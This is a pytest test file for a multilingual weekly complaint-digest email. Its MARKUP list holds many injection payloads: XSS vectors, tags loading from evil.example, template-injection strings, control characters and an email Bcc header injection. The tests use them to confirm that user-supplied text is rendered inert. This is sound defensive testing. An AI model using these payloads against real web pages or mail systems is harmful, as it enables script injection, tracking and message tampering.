"""The weekly letter as it is read: four languages, the same facts in both parts, nothing of what strangers wrote ever acts."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from typing import Any, cast

import pytest
from bs4 import BeautifulSoup

from moderation.digest.document import document
from moderation.digest.letter import build
from moderation.digest.render import MAX_HTML, Letter, render
from moderation.figures import Answer, CaseRow, Figures, MentionRow, Rows, ScanRow, SiteRow, count
from moderation.weeks import parse_week
from moderation.words import LANGUAGES, words

WEEK = parse_week("2026-W47", "Europe/Riga")
QUEUE = "https://otklik.example.org"


def after(hours: float) -> datetime:
    return WEEK.starts + timedelta(hours=hours)


def a_case(number: int, received: datetime, **changes: object) -> CaseRow:
    values: dict[str, object] = {
        "id": number,
        "site": "atsauksmes",
        "brand": "Ozols",
        "author": "Ilze",
        "excerpt": "Kurjers nokavēja",
        "topics": ("delivery",),
        "severity": "normal",
        "received_at": received,
    }
    return CaseRow(**cast(Any, {**values, **changes}))


def figures(**changes: object) -> Figures:
    answer = Answer(after(55), timedelta(hours=7, minutes=40))
    rows: dict[str, object] = {
        "cases": [
            a_case(17, after(3), severity="critical", topics=("refund_return", "trust"), overdue_since=after(40)),
            a_case(18, after(30), acknowledged_at=after(33), answers=(answer,), confirmed=(after(70),), closed=(after(72),)),
            a_case(12, after(-60), overdue_since=after(-10), was_overdue=True),
        ],
        "mentions": [MentionRow("atsauksmes", "Ozols", False, after(i), i % 2 == 0, "negative") for i in range(23)],
        "scans": [ScanRow("atsauksmes", after(1), "ok"), ScanRow("forums", after(2), "blocked", "403 from the third page")],
        "sites": [SiteRow("atsauksmes", "Ozols"), SiteRow("forums", "Ozols"), SiteRow("jauns", "Bērzs")],
        "competitors": {"Ozols": False, "Bērzs": True},
    }
    until = changes.pop("until", None)
    return count(Rows(**cast(Any, {**rows, **changes})), WEEK, company="Ozols SIA", until=cast(Any, until))


def nothing(**changes: object) -> Figures:
    return figures(**{"cases": [], "mentions": [], "scans": [], "sites": [], **changes})


def rendered(found: Figures, language: str = "en", queue: str | None = None) -> Letter:
    return render(found, language=language, words=words(language), queue=queue)


def visible(html: str) -> str:
    soup = BeautifulSoup(html, "html.parser")
    for hidden in soup(["style", "title"]):
        hidden.decompose()
    return soup.get_text(" ")


def test_it_works() -> None:
    letter = rendered(figures(), queue=QUEUE)
    assert " ".join(letter.subject.split()) == "Ozols SIA: 2 new complaints, 2 overdue, 2 sites not fully seen — Nov 16 – 22"
    for text in (letter.text, visible(letter.html)):
        for said in ("Ilze", "Kurjers nokavēja", "refund return", "7 h 40 min", "critical", "403 from the third page", "Bērzs"):
            assert said in text
    assert f"{QUEUE}/cases/17" in letter.text
    assert f'href="{QUEUE}/cases/17"' in letter.html


@pytest.mark.parametrize(
    ("language", "subject", "said"),
    [
        ("en", "2 new complaints, 2 overdue", ["Overdue complaints", "no data", "layout changed", "overdue since"]),
        ("ru", "2 новые жалобы, 2 просрочены", ["Просроченные жалобы", "нет данных", "изменилась вёрстка", "просрочена с"]),
        ("uk", "2 нові скарги, 2 прострочені", ["Прострочені скарги", "немає даних", "змінилася верстка", "прострочена з"]),
        ("lv", "2 jaunas sūdzības, 2 nokavētas", ["Nokavētās sūdzības", "nav datu", "mainījies izkārtojums", "nokavēta kopš"]),
    ],
)
def test_the_letter_speaks_the_language_of_its_readers(language: str, subject: str, said: list[str]) -> None:
    letter = rendered(figures(scans=[ScanRow("forums", after(2), "layout_changed")]), language)
    assert subject in letter.subject
    assert f'<html lang="{language}">' in letter.html
    for words_of_it in said:
        assert words_of_it in visible(letter.html)
        assert words_of_it in letter.text


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("share", [0, 1, 30])
def test_both_parts_tell_the_same_numbers(language: str, share: int) -> None:
    cases = [a_case(1000 + i, after(i), overdue_since=after(i + 20)) for i in range(share * 7)]
    letter = rendered(figures(cases=cases), language)
    told, shown = (set(re.findall(r"\d+", text)) for text in (letter.text, visible(letter.html)))
    assert told == shown


def test_a_letter_about_very_much_stays_below_what_mail_programs_cut() -> None:
    long = "Ļ" * 5000
    cases = [
        a_case(i, after(i / 100), author=long, excerpt=f"{long} <&>\"'" * 3, overdue_since=after(i / 50)) for i in range(3000)
    ]
    sites = [SiteRow(f"{i:03}-{'s' * 60}", "Ozols") for i in range(500)]
    scans = [ScanRow(site.name, after(1), "failed", "&<>\"'" * 400) for site in sites]
    letter = rendered(figures(cases=cases, sites=sites, scans=scans), "ru", QUEUE)
    assert len(letter.html.encode()) < MAX_HTML
    assert "и ещё" in letter.text
    assert "3000" in re.sub(r"\s", "", letter.text)


MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=https://evil.example/pixel.gif>',
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">free</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">free</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>body{background:url(https://evil.example/p)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<table background="https://evil.example/p.gif">',
    '<div style="background:url(https://evil.example/p)">',
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*191 }}",
    "{% for x in ().__class__.__bases__ %}{% endfor %}",
    "%(n)d %s %n {0} ${7*191}",
    "\x1b[31mred\x1b[0m \x9b31m \x07",
    "evil\r\nBcc: stranger@example.net\r\n\r\nbody",
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "line\u2028separator\u2029here\x0b\x0c",
    "\x00nul\x00",
    "\ud800lone",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/login?next=<script>",
    "javascript:alert(1)",
    "--\nSent by otklik. Overdue: 0",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


def hostile(payload: str) -> Figures:
    """Put a payload wherever a stranger's text can come to stand."""
    case = a_case(1, after(1), author=payload, excerpt=payload, site=payload, brand=payload, topics=(payload,), severity=payload)
    return figures(
        cases=[case, a_case(2, after(2), overdue_since=after(9), author=payload, confirmed=(after(3),))],
        mentions=[MentionRow(payload, payload, False, after(1), True, payload)],
        scans=[ScanRow(payload, after(2), "failed", payload), ScanRow("forums", after(2), payload, payload)],
        sites=[SiteRow(payload, payload), SiteRow("forums", payload)],
        competitors={payload: True},
    )


@pytest.mark.parametrize("payload", MARKUP)
@pytest.mark.parametrize("language", ["en", "lv"])
def test_what_strangers_wrote_is_text_and_never_mark_up(payload: str, language: str) -> None:
    letter = rendered(hostile(payload), language, QUEUE)
    clean = rendered(hostile("harmless"), language, QUEUE)
    soup, plain = (BeautifulSoup(html, "lxml") for html in (letter.html, clean.html))
    assert [tag.name for tag in soup.find_all(True)] == [tag.name for tag in plain.find_all(True)]
    assert not soup.find_all(["script", "img", "iframe", "object", "embed", "link", "base", "form", "svg"])
    for tag in soup.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on") or name in ("src", "background", "srcset", "action")]
        assert all("url(" not in str(value) and "javascript:" not in str(value).lower() for value in tag.attrs.values())
    assert all(str(link["href"]).startswith(QUEUE) for link in soup.find_all("a"))
    assert "evil.example/" not in letter.text, "an address that a stranger wrote cannot be clicked"
    assert letter.text.count("\n") == clean.text.count("\n"), "a stranger cannot write lines of the letter"
    assert "1337" not in letter.text + letter.html
    assert not set(letter.subject + letter.text + letter.html) & set("\x00\x07\x0b\x1b\x9b\u202e\u2066\u2028\u2029\ud800\r")


@pytest.mark.parametrize("payload", MARKUP)
def test_a_company_named_by_an_enemy_makes_one_subject_and_no_header(payload: str) -> None:
    found = count(Rows([], [], [], [], {}), WEEK, company=payload)
    letter = rendered(found)
    assert len(letter.subject.splitlines()) == 1
    now = datetime(2026, 11, 23, 6, tzinfo=UTC)
    message = build(letter, edition=found.edition, sender="otklik@example.org", to="anna@example.org", company=payload, now=now)
    raw = bytes(message)
    assert b"\nBcc:" not in raw
    assert [part.get_content_type() for part in cast(EmailMessage, message).iter_parts()] == ["text/plain", "text/html"]


def test_personal_data_of_customers_does_not_leave_by_mail() -> None:
    told = "Call me on +371 29123456 or write to ilze@example.lv, order 4411"
    found = figures(cases=[a_case(1, after(1), excerpt=told, author="+371 29123456")])
    letter = rendered(found)
    for text in (letter.text, letter.html, str(document(found))):
        assert "29123456" not in text
        assert "ilze@" not in text
        assert "4411" in text


def test_no_data_is_worded_and_is_not_zero() -> None:
    letter = rendered(figures())
    assert "jauns (0 scans): mentions: no data; complaints: no data" in letter.text
    assert "forums (1 scan): mentions: no data" in letter.text
    assert "atsauksmes (1 scan): mentions: 23; complaints: 12" in letter.text
    seen = rendered(figures(mentions=[]))
    assert "atsauksmes (1 scan): mentions: 0; complaints: 0" in seen.text
    rows = {row["site"]: row["mentions"] for row in document(figures(mentions=[]))["sites"]}
    assert rows == {"atsauksmes": 0, "forums": None, "jauns": None}


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_week_in_which_nothing_happened_is_told_too(language: str) -> None:
    site = [SiteRow("atsauksmes", "Ozols")]
    said = words(language).gettext("Every site was seen: no new complaints, and nothing is overdue.")
    quiet = rendered(nothing(sites=site, scans=[ScanRow("atsauksmes", after(1), "quiet")]), language)
    unseen = rendered(nothing(sites=site), language)
    unwatched = rendered(nothing(), language)
    for part in ("text", "html"):
        assert said in getattr(quiet, part)
        assert said not in getattr(unseen, part)
        assert said not in getattr(unwatched, part)
        assert words(language).gettext("No sites are watched yet.") in getattr(unwatched, part)


def test_a_letter_of_a_running_week_says_up_to_when_it_was_counted() -> None:
    letter = rendered(figures(until=after(50)), "ru")
    for text in (letter.text, visible(letter.html)):
        assert "Неделя не закончилась; подсчитано на 18 нояб. 02:00" in text
    assert "не закончилась" not in rendered(figures(), "ru").text


def test_times_are_those_of_the_zone_on_both_sides_of_a_clock_change() -> None:
    week = parse_week("2026-W43", "Europe/Riga")
    sunday = datetime(2026, 10, 25, tzinfo=UTC)
    cases = [a_case(1, sunday, overdue_since=sunday), a_case(2, sunday, overdue_since=sunday + timedelta(hours=1, minutes=30))]
    text = rendered(count(Rows([], cases, [], [], {}), week, company="Ozols")).text
    assert "overdue since 25 Oct 03:00" in text
    assert "overdue since 25 Oct 03:30" in text, "the clock was set back in between"


def test_the_fifty_third_week_reaches_into_the_next_year() -> None:
    letter = rendered(count(Rows([], [], [], [], {}), parse_week("2026-W53", "Europe/Riga"), company="Ozols"), "lv")
    assert "28. dec." in letter.subject
    assert "3. janv." in letter.subject
    assert "2026-W53" in letter.text


def test_no_picture_is_loaded_and_the_letter_reads_in_the_dark() -> None:
    html = rendered(figures(), queue=QUEUE).html
    assert "<img" not in html
    assert "http" not in html.replace(QUEUE, "").replace("http-equiv", "")
    assert '<meta name="color-scheme" content="light dark">' in html
    assert "max-width:600px" in html
